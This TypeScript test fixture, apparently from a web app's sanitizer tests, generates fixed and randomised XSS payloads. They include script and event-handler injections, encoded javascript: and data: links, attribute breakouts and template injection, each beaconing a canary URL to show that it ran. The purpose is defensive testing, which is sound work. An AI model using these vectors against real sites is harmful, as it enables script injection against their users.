import { seededRandom } from '../../../../src/shared/seededRandom'

/** One piece of hostile markup; if any part of it ran, it would call `__hostileRan(id)` and hit the canary. */
export interface HostilePayload {
  id: string
  /** What it tries, in a few words (for failure messages). */
  tries: string
  text: string
  /** Visible text a person could click on, when the payload is a link or a button. */
  clickable?: string
}

/** hx001, hx002…: three digits, so no id is a prefix of another when searched for on a screen. */
function payloadId(index: number): string {
  return `hx${String(index + 1).padStart(3, '0')}`
}

/** The page binding every payload calls when it runs (see PageWatch). */
export const ranBinding = '__hostileRan'

/**
 * The payloads, addressed at a canary server nothing may ever reach and at an image host the page may
 * only reach after the teacher allows a feed's images. Each `run(id)` both calls the page binding and
 * requests the canary, so code that ran is caught even where the binding is out of reach.
 */
export function hostilePayloads(canary: string, imageHost: { http: string; https: string }): HostilePayload[] {
  const run = (id: string) => `${ranBinding}('${id}');new Image().src='${canary}/ran/${id}'`
  const list: HostilePayload[] = []
  const add = (tries: string, make: (id: string) => string, clickable?: (id: string) => string) => {
    const id = payloadId(list.length)
    list.push({ id, tries, text: make(id), clickable: clickable?.(id) })
  }
  add('script tag', (id) => `<script>${run(id)}</script>`)
  add('img onerror', (id) => `<img src=x onerror="${run(id)}">`)
  add('img onerror at the canary', (id) => `<img src="${canary}/${id}.png" onerror="${run(id)}">`)
  add('svg onload', (id) => `<svg onload="${run(id)}"><circle r="5"/></svg>`)
  add('script inside svg', (id) => `<svg><script>${run(id)}</script></svg>`)
  add('iframe javascript:', (id) => `<iframe src="javascript:${run(id)}"></iframe>`)
  add('iframe srcdoc', (id) => `<iframe srcdoc="<script>${run(id)}</script>"></iframe>`)
  add('object data:', (id) => `<object data="data:text/html,<script>${run(id)}</script>"></object>`)
  add('embed at the canary', (id) => `<embed src="${canary}/${id}.swf">`)
  add('javascript: link', (id) => `<a href="javascript:${run(id)}">click-${id}</a>`, (id) => `click-${id}`)
  add('entity-encoded javascript: link', (id) => `<a href="&#106;ava&#x73;cript:${run(id)}">click-${id}</a>`, (id) => `click-${id}`)
  add('data: html link', (id) => `<a href="data:text/html,<script>${run(id)}</script>" target="_blank">click-${id}</a>`, (id) => `click-${id}`)
  add('mathml javascript: link', (id) => `<math><mtext><a xlink:href="javascript:${run(id)}">click-${id}</a></mtext></math>`, (id) => `click-${id}`)
  add('form javascript: action', (id) => `<form action="javascript:${run(id)}"><button>click-${id}</button></form>`, (id) => `click-${id}`)
  add('button formaction', (id) => `<button formaction="javascript:${run(id)}" onclick="${run(id)}">click-${id}</button>`, (id) => `click-${id}`)
  add('details ontoggle', (id) => `<details open ontoggle="${run(id)}"><summary>s</summary></details>`)
  add('input autofocus onfocus', (id) => `<input autofocus onfocus="${run(id)}">`)
  add('body onload', (id) => `<body onload="${run(id)}">`)
  add('div onmouseover', (id) => `<div onmouseover="${run(id)}" style="position:fixed;inset:0">hover-${id}</div>`)
  add('meta refresh to javascript:', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${run(id)}">`)
  add('base href to the canary', (id) => `<base href="${canary}/${id}/">`)
  add('style tag with @import and url()', (id) => `<style>@import url(${canary}/${id}.css); body{background:url(${canary}/${id}-bg.png)}</style>`)
  add('style attribute url()', (id) => `<div style="background-image:url(${canary}/${id}.png)">styled-${id}</div>`)
  add('stylesheet link', (id) => `<link rel="stylesheet" href="${canary}/${id}.css">`)
  add('video poster and audio', (id) => `<video poster="${canary}/${id}.jpg" src="${canary}/${id}.mp4"></video><audio autoplay src="${canary}/${id}.mp3"></audio>`)
  add('img srcset', (id) => `<img srcset="${canary}/${id}.png 1x" alt="srcset-${id}">`)
  add('remote https image', (id) => `<img src="${imageHost.https}/${id}.png" alt="remote-${id}">`)
  add('remote http image', (id) => `<img src="${imageHost.http}/${id}.png" alt="plain-${id}">`)
  add('attribute breakout', (id) => `"><script>${run(id)}</script><x y="`)
  add('noscript mutation', (id) => `<noscript><p title="</noscript><img src=x onerror=${run(id)}>">`)
  add('template injection', (id) => `{{constructor.constructor('${run(id)}')()}} \${${run(id)}}`)
  add('markdown javascript: link', (id) => `[click-${id}](javascript:${run(id)})`, (id) => `click-${id}`)
  add('markdown remote image', (id) => `![md-${id}](${imageHost.https}/md-${id}.png)`)
  return list
}

/**
 * Random mixes of the same ingredients (tag, handler, address scheme and its encodings, wrapping), numbered
 * after the fixed payloads: the fixed list covers each trick once, these try combinations nobody listed.
 */
export function randomPayloads(canary: string, count: number, seed: number, firstIndex: number): HostilePayload[] {
  const random = seededRandom(seed)
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!
  const tags = ['img', 'svg', 'video', 'audio', 'iframe', 'object', 'embed', 'details', 'input', 'body', 'div', 'marquee', 'select', 'textarea', 'math', 'style', 'a', 'form', 'isindex', 'image']
  const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onclick', 'onanimationstart', 'onbegin', 'onpageshow', 'onstart']
  const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', '&#106;avascript:', '&#x6A;avascript:', 'javascript&colon;', 'data:text/html,', 'data:text/html;base64,', 'vbscript:']
  const addressAttributes = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background']
  const wrappers: Array<(html: string) => string> = [
    (html) => html,
    (html) => `"><${html}`,
    (html) => `'--><${html}`,
    (html) => `<noscript><p title="</noscript>${html}">`,
    (html) => `<![CDATA[${html}]]>`,
    (html) => `[x](${html})`,
    (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
    (html) => `<template>${html}</template>${html}`,
  ]
  const list: HostilePayload[] = []
  for (let n = 0; n < count; n++) {
    const id = payloadId(firstIndex + n)
    const run = `${ranBinding}('${id}');new Image().src='${canary}/ran/${id}'`
    const tag = pick(tags)
    const scheme = pick(schemes)
    const address = scheme.startsWith('data:') ? `${scheme}${scheme.endsWith('base64,') ? Buffer.from(`<script>${run}</script>`).toString('base64') : `<script>${run}</script>`}` : `${scheme}${run}`
    const attribute = random() < 0.5 ? `${pick(handlers)}="${run}"` : `${pick(addressAttributes)}="${address}"`
    const extra = random() < 0.3 ? ` style="background:url(${canary}/${id}.png)"` : ''
    const clickable = `click-${id}`
    const html = pick(wrappers)(`<${tag} ${attribute}${extra} autofocus tabindex=1>${clickable}</${tag}>`)
    list.push({ id, tries: `random mix: ${tag} ${attribute.split('=')[0]} ${scheme.trim()}`, text: html, clickable })
  }
  return list
}
